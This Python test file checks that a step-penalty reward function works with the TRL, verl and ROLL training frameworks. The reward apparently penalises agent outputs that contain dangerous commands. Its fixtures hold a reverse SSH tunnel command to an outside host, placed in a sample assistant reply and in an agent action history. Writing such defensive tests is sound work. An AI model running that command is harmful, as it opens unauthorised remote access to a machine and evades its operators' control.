"""`auditor.reward` is called as TRL and verl call a reward function, by the calls that stand in their sources.

ROLL is not on PyPI: for it there is only the shape of its histories, as its repository has them
(github.com/alibaba/ROLL, roll/pipeline/agentic/env_manager).
"""

from __future__ import annotations

import ast
import functools
import inspect
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from auditor.reward import StepPenalty
from tests.frameworks import lifted

ENVIRONMENTS = Path(os.environ.get("TEST_FRAMEWORKS", Path(__file__).parents[2] / ".venv-agents"))
TUNNEL = "ssh -f -N -R 2222:localhost:22 ops@203.0.113.5"
BAD = f"I shall run it:\n\n```bash\n{TUNNEL}\n```\n"
GOOD = "The answer is 42."
NEEDS = "needs the frameworks: make test-frameworks"


@pytest.fixture(scope="module")
def reward() -> Iterator[StepPenalty]:
    """Give a penalty whose engines stay warm."""
    with StepPenalty() as made:
        yield made


@pytest.fixture(scope="module")
def packages() -> Path:
    """Give the folder in which TRL and verl are installed."""
    found = list(ENVIRONMENTS.glob("fw-training/lib/python3.*/site-packages"))
    if "TEST_FRAMEWORKS" not in os.environ or not found:
        pytest.skip(NEEDS)
    return found[0]


def _value(call: ast.expr, names: dict[str, object]) -> object:
    """Give the value of an expression of a framework's source."""
    return lifted.run(ast.parse(f"value = {ast.unparse(call)}").body[0], dict(names))["value"]


def test_trl_calls_it_with_all_that_it_hands_to_reward_functions(reward: StepPenalty, packages: Path) -> None:
    function = lifted.named(lifted.parsed(packages / "trl/trainer/grpo_trainer.py"), "_calculate_rewards")
    made = [each for each in lifted.calls(function, "reward_func") if any(k.arg == "prompts" for k in each.keywords)]
    assert made
    given = {
        node.slice.value
        for node in ast.walk(function)
        if isinstance(node, ast.Subscript) and ast.unparse(node.value) == "reward_kwargs"
        if isinstance(node.slice, ast.Constant)
    }
    assert {"trainer_state", "log_extra", "log_metric"} <= given
    for completions in ([BAD, GOOD], [[{"role": "assistant", "content": text}] for text in (BAD, GOOD)]):
        names = {
            "reward_func": reward,
            "prompts": ["p", "p"],
            "completions": completions,
            "completion_ids_list": [[1], [2]],
            "reward_kwargs": {name: print for name in given} | {"answer": ["a", "b"]},
        }
        assert [_value(call, names) for call in made] == [[-1.0, 0.0]] * len(made)


def test_trl_takes_it_for_a_synchronous_function_with_a_name(reward: StepPenalty, packages: Path) -> None:
    tree = lifted.parsed(packages / "trl/trainer/utils.py")
    names = {"functools": functools, "inspect": inspect}
    assert lifted.function(tree, "get_callable_name", dict(names))(reward) == "auditor_step_penalty"
    assert lifted.function(tree, "is_async_callable", dict(names))(reward) is False


def test_verl_calls_it_in_each_of_its_reward_managers(reward: StepPenalty, packages: Path) -> None:
    wrap = lifted.function(lifted.parsed(packages / "verl/trainer/ppo/reward.py"), "_call_with_kwargs", {})
    compute_score = functools.partial(wrap, reward.compute_score, {"strict": True})
    assert not inspect.iscoroutinefunction(reward.compute_score)
    managers = [
        *(packages / "verl/experimental/reward_loop/reward_manager").glob("*.py"),
        *(packages / "verl/workers/reward_manager").glob("*.py"),
    ]
    seen = []
    for path in managers:
        for call in lifted.calls(lifted.parsed(path), "self.compute_score"):
            if not any(keyword.arg == "solution_str" for keyword in call.keywords):
                continue
            call.func = ast.Name("compute_score")
            for text, expected in ((BAD, -1.0), (GOOD, 0.0)):
                names = {
                    "compute_score": compute_score,
                    "data_source": "math",
                    "response_str": text,
                    "solution_str": text,
                    "ground_truth": "42",
                    "extra_info": {"num_turns": 1, "rollout_reward_scores": {}},
                    "extra_reward_kwargs": {"reward_router_address": "", "reward_model_tokenizer": None},
                }
                assert _value(call, names) == expected, path
            seen.append(path.name)
    assert {"naive.py", "dapo.py"} <= set(seen)


def test_roll_has_the_actions_of_a_history(reward: StepPenalty) -> None:
    history = [
        {"observation": "$", "action_content": TUNNEL, "reward": 0.0},
        {"observation": "$", "action_content": "ls", "reward": 1.0},
    ]
    actions = [str(entry["action_content"]) for entry in history]
    assert reward.compute_rewards(actions) == [-1.0, 0.0]
